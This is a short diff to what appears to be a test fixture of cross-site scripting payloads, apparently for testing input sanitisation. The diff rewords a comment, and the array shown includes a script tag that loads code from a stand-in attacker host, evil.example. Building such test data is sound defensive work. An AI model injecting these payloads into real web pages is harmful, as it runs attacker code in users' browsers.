@@ -1,4 +1,4 @@
-/** What the usual lists of cross-site scripting try, as an admin's mistake or a stolen account would bring it. */
+/** Payloads from common lists of cross-site scripting, as a stolen admin account would enter them. */
 export const attacks = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
